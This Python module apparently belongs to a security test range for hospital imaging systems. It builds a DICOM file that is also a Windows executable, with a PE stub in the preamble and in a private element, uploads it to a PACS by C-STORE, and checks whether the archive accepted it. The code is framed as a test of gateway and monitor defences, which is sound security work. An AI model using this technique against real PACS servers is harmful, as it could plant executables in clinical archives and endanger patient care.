"""Polyglot upload by C-STORE (CVE-2019-11687): a PE executable in the preamble and in a private element (T1027.009)."""

from __future__ import annotations

from pydicom.dataset import Dataset

from radguard.range.attacks.kit import PE_STUB, Attack, Context, Outcome, stored_outcome


def weaponise(ctx: Context) -> tuple[Dataset, str]:
    ds = ctx.sample()
    block = ds.private_block(0x0011, "RANGE POLYGLOT", create=True)
    block.add_new(0x10, "OB", PE_STUB + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 200)
    ds.preamble = PE_STUB + b"\x00" * (128 - len(PE_STUB))
    return ds, str(ds.SOPInstanceUID)


def run(ctx: Context) -> Outcome:
    ds, uid = weaponise(ctx)
    ctx.store_dataset("CT01", ds, "polyglot.dcm")
    return stored_outcome(ctx.pacs_has(uid), yes="weaponised object accepted by the PACS", no="not stored")


ATTACK = Attack(
    name="polyglot-store", title="Polyglot upload by C-STORE (CVE-2019-11687)", attack_ids=("T1027.009", "T1204.002"),
    precondition="a modality's AE title (CT01)", objective="the weaponised object stored in the PACS",
    layers=("gateway", "monitor"), run=run)
